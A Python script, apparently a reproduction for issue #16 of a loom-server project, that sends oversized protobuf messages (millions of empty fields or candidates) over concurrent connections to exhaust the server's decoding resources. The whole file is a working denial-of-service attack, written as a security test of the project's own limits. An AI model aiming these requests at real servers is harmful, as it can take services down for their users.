#!/usr/bin/env python3
"""Sends the decode-amplification requests of issue #16 (item 4) to a plaintext loom-server.

Each request is a 4 MB protobuf message that is cheap to send and expensive to decode:
  getrun    GetRun with 2,000,000 unknown fields (any viewer may call GetRun)
  dryrun    DryRun whose candidate has 2,000,000 empty file groups
  announce  Announce of a migration with 2,000,000 empty candidates
  worst     Announce within every decoding bound (Protos/README.md, section 2.7) that decodes to nearly the
            most they allow: 530 candidates of 1000 empty file groups, and a 2.9 MB description

  amplification.py HOST:PORT KIND [COUNT]
    KIND: getrun | dryrun | announce | worst | mixed (mixed cycles through the first three)
    COUNT: requests sent at once, each on its own connection (default 1)

Prints each call's status (code and message). The frames are those of Protos/README.md, section 2.
"""
import socket
import struct
import sys
import threading

N = 2_000_000


def varint(value):
    out = bytearray()
    while value >= 0x80:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def field(number, payload):
    return varint(number << 3 | 2) + varint(len(payload)) + payload


REQUESTS = {
    "getrun": ("/loom.v1.Loom/GetRun", lambda: field(1, b"m") + field(2, b"c") + b"\x18\x00" * N),
    "dryrun": ("/loom.v1.Loom/DryRun",
               lambda: field(1, b"m") + field(2, b"c") + field(4, field(1, b"c") + b"\x22\x00" * N)),
    "announce": ("/loom.v1.Loom/Announce", lambda: field(1, field(1, b"m") + b"\x32\x00" * N)),
    "worst": ("/loom.v1.Loom/Announce", lambda: field(1, field(1, b"m") + field(3, b"x" * 2_900_000)
                                                      + field(6, field(1, b"c") + b"\x22\x00" * 1000) * 530)),
}


def frame(kind, call_id, payload):
    return struct.pack(">IBBI", len(payload), kind, 0, call_id) + payload


def call(address, method, message, results, index):
    host, port = address.rsplit(":", 1)
    path = method.encode()
    start = struct.pack(">QH", 60_000_000, len(path)) + path + struct.pack(">H", 0)
    with socket.create_connection((host, int(port))) as connection:
        connection.sendall(frame(1, 1, start) + frame(2, 1, message))
        buffer = b""
        while True:
            while len(buffer) >= 10:
                length, kind, _, call_id = struct.unpack(">IBBI", buffer[:10])
                if len(buffer) < 10 + length:
                    break
                payload, buffer = buffer[10:10 + length], buffer[10 + length:]
                if kind == 3:  # STATUS: code, message
                    code = payload[0]
                    (size,) = struct.unpack(">H", payload[1:3])
                    results[index] = f"{method.rsplit('/', 1)[1]}: status {code} {payload[3:3 + size].decode()!r}"
                    return
                if kind == 7:  # GOAWAY
                    results[index] = f"{method}: GOAWAY {payload!r}"
                    return
            chunk = connection.recv(65536)
            if not chunk:
                results[index] = f"{method}: connection closed"
                return
            buffer += chunk


def main():
    if len(sys.argv) < 3 or sys.argv[2] not in list(REQUESTS) + ["mixed"]:
        sys.exit(__doc__)
    address, kind = sys.argv[1], sys.argv[2]
    count = int(sys.argv[3]) if len(sys.argv) > 3 else 1
    kinds = ["getrun", "dryrun", "announce"] if kind == "mixed" else [kind]
    messages = {name: (REQUESTS[name][0], REQUESTS[name][1]()) for name in kinds}
    results = [None] * count
    threads = []
    for index in range(count):
        method, message = messages[kinds[index % len(kinds)]]
        thread = threading.Thread(target=call, args=(address, method, message, results, index))
        thread.start()
        threads.append(thread)
    for thread in threads:
        thread.join()
    for result in results:
        print(result)


if __name__ == "__main__":
    main()
